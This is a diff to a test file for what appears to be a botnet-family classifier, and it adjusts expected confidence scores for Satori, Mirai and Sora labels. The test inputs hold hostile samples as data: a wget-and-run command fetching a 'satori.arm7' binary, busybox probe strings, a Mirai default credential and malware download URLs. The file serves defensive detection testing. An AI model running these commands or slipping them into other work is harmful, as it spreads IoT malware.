@@ -16,15 +16,15 @@ const told = (...payloads: readonly (readonly [(typeof payloadKinds)[number], st
 }
 
 test('a token alone is weak, more sorts of reasons make it surer', () => {
-  assert.equal(told(['command', '/bin/busybox SATORI']), 'satori 60')
+  assert.equal(told(['command', '/bin/busybox SATORI']), 'satori 40')
   assert.equal(
     told(
       ['command', '/bin/busybox SATORI'],
       ['command', 'wget http://192.0.2.1/bins/satori.arm7; sh satori.arm7'],
     ),
-    'satori 84',
+    'satori 76',
   )
-  assert.equal(told(['command', '/bin/busybox satori'], ['command', '/bin/busybox SATORI']), 'satori 60')
+  assert.equal(told(['command', '/bin/busybox satori'], ['command', '/bin/busybox SATORI']), 'satori 40')
 })
 
 test('an unknown token tells nothing, whatever its form', () => {
@@ -45,8 +45,8 @@ test('weak reasons of several sorts together make the parent, one sort does not'
   assert.equal(told(probe), '-')
   assert.equal(told(probe, probe, ['command', '/bin/busybox wget; /bin/busybox tftp']), '-')
   assert.equal(told(['credential', 'root\0xc3511']), '-')
-  assert.equal(told(probe, ['credential', 'root\0xc3511']), 'mirai 55')
-  assert.equal(told(probe, ['url', 'http://192.0.2.1/b/q.mpsl']), 'mirai 64')
+  assert.equal(told(probe, ['credential', 'root\0xc3511']), 'mirai 51')
+  assert.equal(told(probe, ['url', 'http://192.0.2.1/b/q.mpsl']), 'mirai 51')
 })
 
 test('a variant goes before its parent, however much speaks for that', () => {
@@ -57,7 +57,7 @@ test('a variant goes before its parent, however much speaks for that', () => {
       ['url', 'http://192.0.2.1/mirai.mpsl'],
       ['credential', 'root\0xc3511'],
     ),
-    'sora 60',
+    'sora 40',
   )
 })
 
